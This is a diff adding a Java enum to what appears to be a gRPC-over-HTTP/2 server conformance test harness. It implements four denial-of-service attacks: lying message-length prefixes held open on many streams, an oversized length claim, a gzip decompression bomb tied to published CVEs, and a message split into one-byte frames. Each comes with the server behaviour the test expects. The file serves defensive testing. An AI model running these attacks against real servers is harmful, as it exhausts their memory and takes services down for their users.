@@ -1,0 +1,98 @@
+package dev.gannet.conformance.gauntlet.attack;
+
+import dev.gannet.conformance.gauntlet.attack.Dossier.Fate;
+import dev.gannet.conformance.gauntlet.wire.BlockWriter;
+import dev.gannet.conformance.gauntlet.wire.Frames;
+import dev.gannet.conformance.gauntlet.wire.Messages;
+import dev.gannet.conformance.gauntlet.wire.RawConnection;
+import dev.gannet.conformance.gauntlet.wire.Requests;
+import java.io.IOException;
+import java.util.Arrays;
+
+/** Messages that are not what their first octets say. */
+enum MessageLies implements Attack {
+  /** Four MiB announced, none sent, on every stream that there may be. */
+  LENGTH("length-lie", "allocates as bytes arrive, not as they are announced", ""),
+  /** Four GiB announced. */
+  TOO_LONG("length-lie-huge", "refuses the call at the prefix", ""),
+  /** A few KiB that become many MiB. */
+  GZIP("gzip-bomb", "stops inflating at its limit, and refuses the call", "2024-36129 2024-37168"),
+  /** A long message in frames of one byte. */
+  SMALL_DATA("small-data", "counts what small frames cost beyond their content", "");
+
+  private static final int LARGEST_LEGAL = 4 << 20;
+  private static final int LARGEST_POSSIBLE = -1;
+  private static final int BOMB_BYTES = 32 << 20;
+  private static final int STREAMS = 200;
+  private static final int PAUSE_MILLIS = 100;
+
+  private final String name;
+  private final String correct;
+  private final String cves;
+
+  MessageLies(String name, String correct, String cves) {
+    this.name = name;
+    this.correct = correct;
+    this.cves = cves;
+  }
+
+  @Override
+  public Dossier dossier() {
+    return new Dossier(name, "gRPC over HTTP/2, Length-Prefixed-Message", Fate.BOUNDED, correct)
+        .published(cves);
+  }
+
+  @Override
+  public void attack(Front front) throws IOException {
+    RawConnection connection = front.connect();
+    switch (this) {
+      case LENGTH -> announce(front, connection, LARGEST_LEGAL);
+      case TOO_LONG -> announce(front, connection, LARGEST_POSSIBLE);
+      case GZIP -> explode(front, connection);
+      case SMALL_DATA -> crumble(front, connection);
+    }
+  }
+
+  private static void announce(Front front, RawConnection connection, int lengthBytes)
+      throws IOException {
+    Requests requests = Requests.to(Requests.UPLOAD);
+    int id = -1;
+    while (front.goesOn(connection)) {
+      while (front.goesOn(connection) && id / 2 - connection.endedStreams() < STREAMS) {
+        id += 2;
+        connection.send(Frames.headers(id, Frames.END_HEADERS, requests.next()));
+        connection.send(Frames.data(id, Frames.NONE, Messages.claiming(lengthBytes)));
+      }
+      connection.flush();
+      front.pauseMillis(PAUSE_MILLIS);
+    }
+  }
+
+  private static void explode(Front front, RawConnection connection) throws IOException {
+    byte[] bomb = Messages.gzippedZeros(BOMB_BYTES);
+    BlockWriter gzip = new BlockWriter().unstored("grpc-encoding", "gzip");
+    byte[] block = Requests.untabled(Requests.UNARY, gzip);
+    for (int id = 1; front.goesOn(connection); id += 2) {
+      connection.send(Frames.headers(id, Frames.END_HEADERS, block));
+      for (int at = 0; at < bomb.length; at += Frames.MAX_PAYLOAD_BYTES) {
+        int end = Math.min(bomb.length, at + Frames.MAX_PAYLOAD_BYTES);
+        int flags = end == bomb.length ? Frames.END_STREAM : Frames.NONE;
+        connection.send(Frames.data(id, flags, Arrays.copyOfRange(bomb, at, end)));
+      }
+      while (front.goesOn(connection) && connection.endedStreams() < id / 2) {
+        connection.flush();
+        front.pauseMillis(1);
+      }
+    }
+  }
+
+  private static void crumble(Front front, RawConnection connection) throws IOException {
+    byte[] block = Requests.untabled(Requests.UPLOAD, new BlockWriter());
+    connection.send(Frames.headers(1, Frames.END_HEADERS, block));
+    connection.send(Frames.data(1, Frames.NONE, Messages.claiming(LARGEST_LEGAL)));
+    byte[] crumb = Frames.data(1, Frames.NONE, (byte) 0);
+    for (int sent = 0; front.goesOn(connection) && sent < LARGEST_LEGAL; sent++) {
+      connection.send(crumb);
+    }
+  }
+}
